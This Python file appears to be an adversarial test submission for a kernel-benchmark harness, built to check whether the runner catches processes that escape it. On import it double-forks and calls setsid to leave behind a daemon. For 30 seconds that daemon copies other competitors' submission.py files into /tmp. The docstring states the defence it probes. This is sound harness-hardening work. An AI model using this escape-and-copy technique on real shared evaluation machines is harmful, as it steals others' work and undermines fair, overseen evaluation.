"""Leaves a daemon behind: double fork and ``setsid`` out of the process group the harness kills.

Class: processes escaping the harness's process group (daemon outliving the job)
Expected: failed

A harness that kills "the child's process group" misses a process that started its own session.
On loading, the submission double-forks; the grandchild calls ``setsid`` (new session, new group,
re-parented to init) and stays alive after the evaluation ends, watching the shared scratch folder:
it copies every other job's ``submission.py`` it sees to ``/tmp/kernelrank-pwned-stolen-<pid>/``
(a real one would also burn CPU while competitors are timed, or tamper with their folders). The
daemon gives up after 30 s so this corpus cannot leave a permanent process on a shared machine. The
submission's own outputs are zeros: this attack is on the runner, not the score. A working defence
kills everything the submission started, whatever its session (a PID namespace whose init is
killed, or a cgroup killed as a whole).
"""

import os
import shutil
import time
from pathlib import Path

import torch

LIFETIME_S = 30


def _daemon(scratch):
    stolen = Path("/tmp") / f"kernelrank-pwned-stolen-{os.getpid()}"
    deadline = time.monotonic() + LIFETIME_S
    mine = Path.cwd().resolve()
    while time.monotonic() < deadline:
        try:
            for sub in scratch.glob("*/submission.py"):
                if sub.parent != mine:
                    stolen.mkdir(exist_ok=True)
                    shutil.copyfile(sub, stolen / f"{sub.parent.name}.py")
        except OSError:
            pass
        time.sleep(0.2)


_scratch = Path.cwd().resolve().parent
_pid = os.fork()
if _pid == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            _daemon(_scratch)
    finally:
        os._exit(0)
os.waitpid(_pid, 0)


def custom_kernel(data):
    q = data[0]
    return torch.zeros(q.shape[0], q.shape[1], q.shape[2], 512, dtype=torch.bfloat16, device=q.device)
